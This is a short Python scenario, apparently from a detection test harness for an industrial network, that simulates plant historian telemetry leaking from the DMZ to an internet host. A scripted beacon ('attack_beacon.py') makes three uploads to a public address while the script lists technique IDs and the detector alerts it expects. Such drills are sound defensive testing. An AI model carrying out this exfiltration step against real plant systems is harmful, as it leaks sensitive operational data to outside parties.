"""Telemetry leaves the plant: a host in the DMZ posts the historian's data to a server in the internet."""

SPEED = 2
STANDING = ("cleartext.protocol",)
OPENED = (("dmz", "internet", "any"),)


def play(stage):
    past = stage.past()
    cloud = stage.python("cloud", "web.py", "192.31.196.80", 80)
    stage.listening(cloud, 80)
    stage.inference(60, "--serve", "10.20.0.5", past, period=3)
    stage.wait(25)
    with stage.step(
        "three uploads to a public address",
        actors=("historian",),
        targets=("cloud",),
        techniques=("T0882", "AML.T0025"),
        expected=("exfiltration.new_destination", "exfiltration.volume", "boundary.internet"),
        also=("boundary.conduit", "lateral.beacon", "lateral.file_transfer"),
        evidence="ip.src == {historian} && ip.dst == {cloud}",
    ):
        stage.done(stage.python("historian", "attack_beacon.py", "192.31.196.80", 80, 3, "/upload", past))
    stage.wait(10)
